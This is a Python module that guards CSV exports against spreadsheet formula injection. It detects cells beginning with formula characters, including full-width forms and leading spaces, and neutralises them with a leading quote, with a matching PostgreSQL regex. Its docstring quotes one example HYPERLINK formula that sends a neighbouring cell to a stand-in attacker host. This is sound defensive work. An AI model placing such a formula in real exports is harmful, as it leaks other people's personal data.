"""One rule for every cell that may be opened in a spreadsheet (CSV exports and imports).

A cell starting with = + - @ (or tab or carriage return, which some programs skip before reading
one of those) is run as a formula by Excel, LibreOffice and Google Sheets: a signer named
`=HYPERLINK("//evil.example/?"&A2,"Click")` could send the next cell, another supporter's address,
to whoever wrote it. OWASP's advice (CSV injection) is to make such a cell text by putting a single
quote before it. Spreadsheets also accept the full-width forms of those characters, and skip the
spaces in front of them, so we do too.
"""

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")  # the last four: ＝ ＋ － ＠

# What spreadsheet programs show at the start of a UTF-8 CSV file: without it, Excel reads the file
# in the machine's legacy code page and Persian or Greek names come out as mojibake.
BYTE_ORDER_MARK = "\ufeff"


def looks_like_formula(value):
    """True when a spreadsheet would read this text as a formula."""
    text = "" if value is None else str(value)
    for char in text:
        if char in FORMULA_STARTS:
            return True
        if not char.isspace():
            return False
    return False


def neutralise(value):
    """The cell as text a spreadsheet shows and never runs: a leading ' when it looks like a formula."""
    text = "" if value is None else str(value)
    return "'" + text if looks_like_formula(text) else text


# Every character Python's str.isspace() accepts (all below U+3001: the test checks the whole range).
SPACES = "".join(char for char in map(chr, range(0x3001)) if char.isspace())


def formula_regex():
    """looks_like_formula() as a PostgreSQL regular expression, for exports written by the database:
    any run of spaces, then a formula start. Each character is given by its code (\\uXXXX), so none
    has a meaning in the bracket."""

    def bracket(chars):
        return "[" + "".join(f"\\u{ord(char):04x}" for char in sorted(chars)) + "]"

    return "^" + bracket(set(SPACES) - FORMULA_STARTS) + "*" + bracket(FORMULA_STARTS)
